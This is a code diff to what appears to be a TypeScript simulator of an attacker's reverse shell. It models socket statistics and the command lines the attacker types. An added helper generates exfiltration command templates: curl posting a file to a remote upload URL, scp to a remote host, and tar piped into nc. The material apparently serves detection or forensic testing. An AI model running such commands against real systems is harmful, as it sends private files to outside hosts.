@@ -19,7 +19,7 @@ import { interactiveInfo, pathFd, pipeFd, proc, sockFd, tcp } from './make';
 import type { BehaviourModule, Collector } from './module';
 import { fill, flavour } from './shell-flavours';
 import { parseDuration, parseHostPort } from './time';
-import type { ChainProcess, FdSpec, ReverseShell } from './types';
+import type { ChainProcess, Exfil, FdSpec, ReverseShell } from './types';
 
 /** tcp_retries2 = 15: how long unacknowledged data is retransmitted. */
 export const RETRANS_GIVE_UP = 924_600;
@@ -191,10 +191,20 @@ function contributeEpoch(b: ReverseShell, ctx: WorldCtx, e: ShellEpoch, first: b
   });
   if (t >= e.sockEnd) return;
   const local = { addr: ctx.hostAddr, port: e.localPort };
-  const idle = t - e.start - 4;
+  const typed = first ? typedInto(b, ctx).filter((c) => c.at >= e.start && c.at <= t) : [];
+  const bytesIn = typed.reduce((n, c) => n + c.text.length + 1, 31);
+  const lastCmd = typed.at(-1)?.at;
+  const info = interactiveInfo(30, bytesIn, t - e.start - 4, 0.4, false);
+  if (lastCmd !== undefined) {
+    // No pty: bash -i does not echo what the attacker types, it only receives it.
+    info.lastrcv = t - lastCmd;
+    info.segsIn += typed.length;
+    info.dataSegsIn = (info.dataSegsIn ?? 0) + typed.length;
+  }
+  const idle = Math.min(info.lastsnd, info.lastrcv, info.lastack);
   const socket = tcp({
     id: first ? b.id : `${b.id}~${e.localPort}`, inode: e.inode, sk: e.sk, state: 'ESTABLISHED', local,
-    remote: b.to, uid: b.uid, createdAt: e.start, ...(b.cgroup ? { cgroup: b.cgroup } : {}), info: interactiveInfo(30, 31, idle, 0.4, false),
+    remote: b.to, uid: b.uid, createdAt: e.start, ...(b.cgroup ? { cgroup: b.cgroup } : {}), info,
   });
   if (t >= e.cut) {
     const since = t - e.cut;
@@ -208,6 +218,31 @@ function contributeEpoch(b: ReverseShell, ctx: WorldCtx, e: ShellEpoch, first: b
     reply: { src: b.to.addr, dst: local.addr, sport: b.to.port, dport: local.port },
     assured: true, mark: 0,
   });
+}
+
+/** Command lines the attacker typed into the shell: the entries started from it, in order. */
+export function typedInto(b: ReverseShell, ctx: WorldCtx): { at: number; text: string }[] {
+  const key = `${b.id}:typed`;
+  const known = ctx.memo.get(key) as { at: number; text: string }[] | undefined;
+  if (known) return known;
+  const out: { at: number; text: string }[] = [];
+  for (const x of ctx.byId.values()) {
+    if (!('parent' in x) || x.parent !== b.id) continue;
+    if (x.kind === 'exfil') out.push({ at: x.at, text: exfilCommand(x) });
+    else if (x.kind === 'process') out.push({ at: x.at, text: x.argv.join(' ') });
+    else if (x.kind === 'beacon') out.push({ at: x.at, text: x.loopArgv.join(' ') });
+    else out.push({ at: x.at, text: x.id });
+  }
+  out.sort((x, y) => x.at - y.at);
+  ctx.memo.set(key, out);
+  return out;
+}
+
+function exfilCommand(x: Exfil): string {
+  const dst = `${x.to.addr} ${x.to.port}`;
+  if (x.tool === 'curl') return `curl -sk -X POST --data-binary @${x.source} https://${x.to.addr}:${x.to.port}/upload`;
+  if (x.tool === 'scp') return `scp -q ${x.source} ${x.user}@${x.to.addr}:/tmp/`;
+  return `tar czf - ${x.source} | nc ${dst}`;
 }
 
 function contribute(b: ReverseShell, ctx: WorldCtx, t: number, out: Collector): void {
